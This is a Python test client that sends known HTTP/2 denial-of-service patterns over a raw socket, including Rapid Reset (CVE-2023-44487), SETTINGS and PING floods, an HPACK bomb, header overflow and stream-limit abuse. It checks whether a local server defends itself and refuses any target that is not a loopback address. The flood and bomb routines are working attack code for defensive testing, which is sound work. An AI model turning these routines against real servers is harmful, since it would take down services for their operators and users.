#!/usr/bin/env python3
"""A misbehaving HTTP/2 client for Tracegate's tests: the known HTTP/2 denial-of-service patterns,
sent over one raw socket so a test can check that a server defends itself.

    h2_flood.py --target 127.0.0.1:PORT --mode MODE [--count N] [--references N] [--size BYTES]
                [--path /] [--authority HOST] [--tls [--ca FILE]] [--timeout SECONDS]

Framing and HPACK come from PyPI `h2`/`hpack`/`hyperframe`; the floods of bare frames are
serialized with hyperframe and written without h2's bookkeeping. Modes:

    benign           --count (10) GET requests to --path, no more open at once than the server's
                     SETTINGS_MAX_CONCURRENT_STREAMS, every response read; then GOAWAY(NO_ERROR).
                     Checks that this client's frames are valid.
    rapid-reset      --count (1000) times HEADERS immediately followed by RST_STREAM(CANCEL), as
                     fast as the socket takes them (CVE-2023-44487), reading meanwhile.
    settings-flood   --count (5000) empty SETTINGS frames without reading, so the server's
                     SETTINGS ACKs pile up (CVE-2019-9515). The socket's receive buffer is
                     4 KiB (--receive-buffer) so they pile up in the server, not in our kernel.
    ping-flood       --count (5000) PING frames without reading (CVE-2019-9512), likewise.
    hpack-bomb       --count (1) requests whose header block first inserts `x-bomb` with the
                     largest value the peer's default 4,096-byte dynamic table holds (4,058 bytes,
                     RFC 7541 §4.1: entry size = name + value + 32) and then references that entry
                     --references (1000) times, one byte each: a few KiB on the wire, about 4 MiB
                     once decoded (RFC 9113 §10.5.1).
    header-overflow  one request whose header list (RFC 9113 §6.5.2 size: name + value + 32 per
                     field) is larger than --size (100000) bytes, in distinct 1 KiB fields.
    stream-limit     reads the server's SETTINGS, then opens --count (200) streams at once,
                     ignoring its SETTINGS_MAX_CONCURRENT_STREAMS; a server answers the excess
                     with RST_STREAM(REFUSED_STREAM) or PROTOCOL_ERROR (RFC 9113 §5.1.2).

After the flood a PING with opaque data `tgalive!` is sent: its ACK proves the server processed
everything before it and still serves the connection. The script then reads until the server
closes, that ACK arrives (and, in benign mode, every response is complete) or --timeout (10 s)
passes, and prints one JSON object (keys sorted):

    {"mode", "frames_sent", "frames_sent_by_type": {"HEADERS": n, ...}, "bytes_sent",
     "frames_received_by_type": {...}, "goaway_received": bool, "goaway_error_code": int|null,
     "goaway_error_name": str|null, "goaway_last_stream_id": int|null, "goaway_debug_data": str|null,
     "last_stream_id": highest stream id this client opened, "server_closed": bool (EOF or reset),
     "connection_reset": bool, "write_error": str|null, "write_stalled": bool,
     "alive_after": bool (the final PING was answered), "responses": {"200": n, ...} (complete
     responses by status), "responses_received": n, "streams_reset_by_server": {"CODE": n},
     "response_bytes": n, "server_settings": {"SETTINGS_MAX_CONCURRENT_STREAMS": n, ...} (the
     server's first SETTINGS frame), "elapsed_ms": n, "error": str|null}

Targets must be loopback addresses: this tool never floods anything else. Exits 0 once the JSON
is printed (whatever the server did), 1 when it cannot connect (the JSON carries `error`), 2 on a
usage error. If `h2` is missing, prints `missing-python-module h2 h2` on stderr and exits 3.
"""

import argparse
import ipaddress
import json
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    from h2.errors import ErrorCodes
    from hyperframe.frame import PingFrame, SettingsFrame
except ImportError as error:  # the Swift wrapper turns this line into a test failure
    print(f"missing-python-module h2 h2 ({error})", file=sys.stderr, flush=True)
    sys.exit(3)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
ALIVE = b"tgalive!"
BOMB_NAME = "x-bomb"
BOMB_VALUE_LENGTH = 4096 - 32 - len(BOMB_NAME)
DEFAULT_COUNTS = {"benign": 10, "rapid-reset": 1000, "settings-flood": 5000, "ping-flood": 5000,
                  "hpack-bomb": 1, "header-overflow": 1, "stream-limit": 200}
SETTING_NAMES = {1: "SETTINGS_HEADER_TABLE_SIZE", 2: "SETTINGS_ENABLE_PUSH",
                 3: "SETTINGS_MAX_CONCURRENT_STREAMS", 4: "SETTINGS_INITIAL_WINDOW_SIZE",
                 5: "SETTINGS_MAX_FRAME_SIZE", 6: "SETTINGS_MAX_HEADER_LIST_SIZE",
                 8: "SETTINGS_ENABLE_CONNECT_PROTOCOL"}
BATCH = 100


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"UNKNOWN_{code}"


class FrameCounter:
    """Splits a byte stream into frames (RFC 9113 §4.1) and counts them by type; on the receiving
    side also decodes GOAWAY, RST_STREAM and PING ACK, independently of h2's state machine (which
    hides frames on streams this client reset)."""

    def __init__(self, preface=0):
        self.skip = preface
        self.buffer = bytearray()
        self.by_type = Counter()
        self.total = 0
        self.goaway = None
        self.settings = None
        self.resets = Counter()
        self.alive = False

    def feed(self, data):
        if self.skip:
            taken = min(self.skip, len(data))
            self.skip -= taken
            data = data[taken:]
        self.buffer += data
        offset = 0
        end = len(self.buffer)
        while end - offset >= 9:
            length = int.from_bytes(self.buffer[offset:offset + 3], "big")
            if end - offset < 9 + length:
                break
            kind, flags = self.buffer[offset + 3], self.buffer[offset + 4]
            payload = bytes(self.buffer[offset + 9:offset + 9 + length]) if kind in (3, 4, 6, 7) else b""
            offset += 9 + length
            self.total += 1
            self.by_type[FRAME_TYPES.get(kind, f"UNKNOWN_{kind}")] += 1
            if kind == 7 and length >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"last_stream_id": last & 0x7FFFFFFF, "error_code": code,
                               "debug": payload[8:].decode("utf-8", errors="replace")}
            elif kind == 4 and not flags & 0x1 and self.settings is None:
                self.settings = {}
                for start in range(0, length - length % 6, 6):
                    identifier, value = struct.unpack(">HI", payload[start:start + 6])
                    self.settings[SETTING_NAMES.get(identifier, f"SETTINGS_{identifier:#x}")] = value
            elif kind == 3 and length == 4:
                self.resets[error_name(struct.unpack(">I", payload)[0])] += 1
            elif kind == 6 and flags & 0x1 and payload == ALIVE:
                self.alive = True
        del self.buffer[:offset]


class Session:
    """One connection: non-blocking writes that can read meanwhile, reads that feed both the frame
    counter and h2 (for responses, SETTINGS ACKs and flow control)."""

    def __init__(self, sock, options):
        self.sock = sock
        self.options = options
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.sent = FrameCounter(preface=len(PREFACE))
        self.received = FrameCounter()
        self.bytes_sent = 0
        self.server_closed = False
        self.connection_reset = False
        self.write_error = None
        self.write_stalled = False
        self.h2_error = None
        self.h2_active = True
        self.remote_settings_seen = False
        self.statuses = {}
        self.complete = set()
        self.response_bytes = 0
        self.last_stream_id = 0

    @property
    def dead(self):
        return self.server_closed or self.write_error is not None or self.write_stalled

    def readable(self, timeout):
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            return True
        readable, _, _ = select.select([self.sock], [], [], max(0.0, timeout))
        return bool(readable)

    def receive_once(self):
        try:
            data = self.sock.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except (ConnectionResetError, ssl.SSLError, OSError):
            self.server_closed = True
            self.connection_reset = True
            return
        if not data:
            self.server_closed = True
            return
        self.received.feed(data)
        if self.h2_error is not None or not self.h2_active:
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as error:
            self.h2_error = f"{type(error).__name__}: {error}"
            return
        for event in events:
            if isinstance(event, h2.events.RemoteSettingsChanged):
                self.remote_settings_seen = True
            elif isinstance(event, h2.events.ResponseReceived):
                self.statuses[event.stream_id] = dict(event.headers).get(":status", "?")
            elif isinstance(event, h2.events.DataReceived):
                self.response_bytes += len(event.data)
                if event.flow_controlled_length:
                    try:
                        self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    except h2.exceptions.StreamClosedError:
                        pass
            elif isinstance(event, h2.events.StreamEnded) and event.stream_id in self.statuses:
                self.complete.add(event.stream_id)

    def write(self, data, read_meanwhile):
        """Writes all of `data` unless the connection dies; reads whatever arrives meanwhile if
        asked to. A write that makes no progress for --timeout seconds counts as stalled."""
        view = memoryview(data)
        stall_deadline = time.monotonic() + self.options.timeout
        while view and not self.dead:
            readers = [self.sock] if read_meanwhile else []
            remaining = stall_deadline - time.monotonic()
            if remaining <= 0:
                self.write_stalled = True
                break
            if read_meanwhile and isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
                self.receive_once()
                continue
            readable, writable, _ = select.select(readers, [self.sock], [], remaining)
            if readable:
                self.receive_once()
            if writable:
                try:
                    written = self.sock.send(view)
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue
                except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as error:
                    self.write_error = type(error).__name__
                    self.connection_reset = isinstance(error, ConnectionResetError)
                    break
                self.sent.feed(bytes(view[:written]))
                self.bytes_sent += written
                view = view[written:]
                stall_deadline = time.monotonic() + self.options.timeout

    def flush(self, read_meanwhile=True, extra=b""):
        self.write(self.conn.data_to_send() + extra, read_meanwhile)

    def read_until(self, done, deadline):
        while not self.server_closed and not done() and time.monotonic() < deadline:
            if self.readable(deadline - time.monotonic()):
                self.receive_once()
                if self.h2_error is None and self.h2_active and not self.dead:
                    pending = self.conn.data_to_send()
                    if pending:
                        self.write(pending, read_meanwhile=True)

    def request_headers(self, extra=()):
        scheme = "https" if self.options.tls else "http"
        return [(":method", "GET"), (":path", self.options.path), (":scheme", scheme),
                (":authority", self.options.authority), ("user-agent", "tracegate-h2-flood")] + list(extra)

    def open_stream(self, headers, end_stream=True):
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, headers, end_stream=end_stream)
        self.last_stream_id = stream_id
        return stream_id


# -- modes --------------------------------------------------------------------------------------

def benign(session, options):
    deadline = time.monotonic() + options.timeout
    session.flush()  # preface first: an h2c server that sniffs it says nothing before it (RFC 9113 §3.4)
    session.read_until(lambda: session.remote_settings_seen, deadline)
    opened = 0
    while len(session.complete) < options.count and not session.dead and time.monotonic() < deadline:
        limit = session.conn.remote_settings.max_concurrent_streams
        while opened < options.count and session.conn.open_outbound_streams < limit:
            session.open_stream(session.request_headers())
            opened += 1
        session.flush()
        before = len(session.complete) + sum(session.received.resets.values())
        session.read_until(lambda: len(session.complete) + sum(session.received.resets.values()) > before
                           or len(session.complete) >= options.count, deadline)
        if sum(session.received.resets.values()) >= options.count:
            break


def rapid_reset(session, options):
    for index in range(options.count):
        try:
            stream_id = session.open_stream(session.request_headers())
            session.conn.reset_stream(stream_id, error_code=ErrorCodes.CANCEL)
        except h2.exceptions.ProtocolError:
            break  # h2 saw the server's GOAWAY: no new streams on this connection
        if index % BATCH == BATCH - 1:
            session.flush()
            if session.dead:
                return
    session.flush()


def raw_flood(session, options, make_frame):
    """The connection is set up first (the server's SETTINGS read and acknowledged by h2), then h2
    is left out: it would spend seconds parsing thousands of ACKs the frame counter needs."""
    session.flush()
    session.read_until(lambda: session.remote_settings_seen, time.monotonic() + options.timeout)
    session.flush()
    session.h2_active = False
    for start in range(0, options.count, BATCH):
        batch = b"".join(make_frame(index).serialize()
                         for index in range(start, min(start + BATCH, options.count)))
        session.write(batch, read_meanwhile=False)
        if session.dead:
            return


def hpack_bomb(session, options):
    value = "b" * BOMB_VALUE_LENGTH
    for _ in range(options.count):
        headers = session.request_headers([(BOMB_NAME, value)] * (options.references + 1))
        try:
            session.open_stream(headers)
        except h2.exceptions.ProtocolError:
            break
        session.flush()
        if session.dead:
            return


def header_overflow(session, options):
    fields = []
    total = sum(len(name) + len(value) + 32 for name, value in session.request_headers())
    index = 0
    while total <= options.size:
        name = f"x-overflow-{index:05d}"
        value = (f"{index:05d}-" * 200)[:1024]
        fields.append((name, value))
        total += len(name) + len(value) + 32
        index += 1
    session.open_stream(session.request_headers(fields))
    session.flush()


def stream_limit(session, options):
    deadline = time.monotonic() + options.timeout
    session.flush()  # preface first, as in benign()
    session.read_until(lambda: session.remote_settings_seen, deadline)
    # h2 will not exceed the peer's limit by itself; make it believe there is none (the point).
    session.conn.remote_settings.max_concurrent_streams = 2**31 - 1
    session.conn.remote_settings.acknowledge()
    for _ in range(options.count):
        session.open_stream(session.request_headers())
    session.flush()
    session.read_until(lambda: len(session.complete) + sum(session.received.resets.values()) >= options.count
                       or session.received.goaway is not None, deadline)


MODES = {
    "benign": benign,
    "rapid-reset": rapid_reset,
    "settings-flood": lambda session, options: raw_flood(session, options, lambda _: SettingsFrame(0)),
    "ping-flood": lambda session, options: raw_flood(
        session, options, lambda index: PingFrame(0, opaque_data=struct.pack(">Q", index))),
    "hpack-bomb": hpack_bomb,
    "header-overflow": header_overflow,
    "stream-limit": stream_limit,
}


# -- main ---------------------------------------------------------------------------------------

def loopback_address(host, port):
    for family, kind, protocol, _, address in socket.getaddrinfo(host, port, type=socket.SOCK_STREAM):
        if ipaddress.ip_address(address[0]).is_loopback:
            return family, address
    return None, None


def connect(options, host, port):
    family, address = loopback_address(host, port)
    if address is None:
        raise ValueError(f"{host} is not a loopback address: this tool only targets this machine")
    sock = socket.socket(family, socket.SOCK_STREAM)
    if options.receive_buffer:
        # Before connect, so the advertised TCP window is small from the start: the server's
        # ACKs then back up into its own buffers instead of ours.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, options.receive_buffer)
    sock.settimeout(options.timeout)
    sock.connect(address)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if options.tls:
        context = ssl.create_default_context(cafile=options.ca) if options.ca else ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname=host)
        if sock.selected_alpn_protocol() != "h2":
            raise ValueError(f"ALPN selected {sock.selected_alpn_protocol()!r}, not h2")
    sock.setblocking(False)
    return sock


def report(options, session, started, error=None):
    goaway = session.received.goaway if session else None
    document = {
        "mode": options.mode,
        "frames_sent": session.sent.total if session else 0,
        "frames_sent_by_type": dict(session.sent.by_type) if session else {},
        "bytes_sent": session.bytes_sent if session else 0,
        "frames_received_by_type": dict(session.received.by_type) if session else {},
        "goaway_received": goaway is not None,
        "goaway_error_code": goaway["error_code"] if goaway else None,
        "goaway_error_name": error_name(goaway["error_code"]) if goaway else None,
        "goaway_last_stream_id": goaway["last_stream_id"] if goaway else None,
        "goaway_debug_data": goaway["debug"] if goaway else None,
        "last_stream_id": session.last_stream_id if session else 0,
        "server_closed": session.server_closed if session else False,
        "connection_reset": session.connection_reset if session else False,
        "write_error": session.write_error if session else None,
        "write_stalled": session.write_stalled if session else False,
        "alive_after": session.received.alive if session else False,
        "responses": dict(Counter(session.statuses[s] for s in session.complete)) if session else {},
        "responses_received": len(session.complete) if session else 0,
        "streams_reset_by_server": dict(session.received.resets) if session else {},
        "response_bytes": session.response_bytes if session else 0,
        "server_settings": session.received.settings if session else None,
        "elapsed_ms": round((time.monotonic() - started) * 1000, 1),
        "error": error or (session.h2_error if session else None),
    }
    print(json.dumps(document, sort_keys=True), flush=True)


def main():
    parser = argparse.ArgumentParser(description="HTTP/2 flood client (loopback targets only)")
    parser.add_argument("--target", required=True, help="HOST:PORT on this machine")
    parser.add_argument("--mode", required=True, choices=sorted(MODES))
    parser.add_argument("--count", type=int, help="requests or frames (default per mode)")
    parser.add_argument("--references", type=int, default=1000, help="hpack-bomb references per request")
    parser.add_argument("--size", type=int, default=100000, help="header-overflow header list bytes")
    parser.add_argument("--path", default="/")
    parser.add_argument("--authority", help="default: the target")
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2")
    parser.add_argument("--ca", help="PEM CA to verify the server with --tls (default: no check)")
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--receive-buffer", type=int,
                        help="SO_RCVBUF bytes (default 4096 for the floods that do not read)")
    options = parser.parse_args()
    host, separator, port = options.target.rpartition(":")
    if not separator or not port.isdigit():
        parser.error("--target must be HOST:PORT")
    host = host.strip("[]")
    if options.count is None:
        options.count = DEFAULT_COUNTS[options.mode]
    if options.authority is None:
        options.authority = options.target
    if options.receive_buffer is None and options.mode in ("settings-flood", "ping-flood"):
        options.receive_buffer = 4096

    started = time.monotonic()
    try:
        sock = connect(options, host, int(port))
    except (OSError, ValueError) as error:
        report(options, None, started, f"connect: {error}")
        sys.exit(1)
    session = Session(sock, options)
    session.conn.initiate_connection()
    MODES[options.mode](session, options)
    deadline = time.monotonic() + options.timeout
    if not session.dead:
        if session.h2_error is None and session.h2_active:
            try:
                session.conn.ping(ALIVE)
                session.flush()
            except h2.exceptions.ProtocolError:
                session.write(PingFrame(0, opaque_data=ALIVE).serialize(), read_meanwhile=True)
        else:
            session.write(PingFrame(0, opaque_data=ALIVE).serialize(), read_meanwhile=True)
        session.read_until(lambda: session.received.alive, deadline)
    if session.received.goaway is not None and not session.server_closed:
        # RFC 9113 §6.8: a server may close after GOAWAY; give it the rest of the timeout to.
        session.read_until(lambda: False, min(deadline, time.monotonic() + 2))
    if options.mode == "benign" and not session.dead:
        try:
            session.conn.close_connection()
            session.flush()
        except h2.exceptions.ProtocolError:
            pass
    report(options, session, started)
    sock.close()


if __name__ == "__main__":
    main()
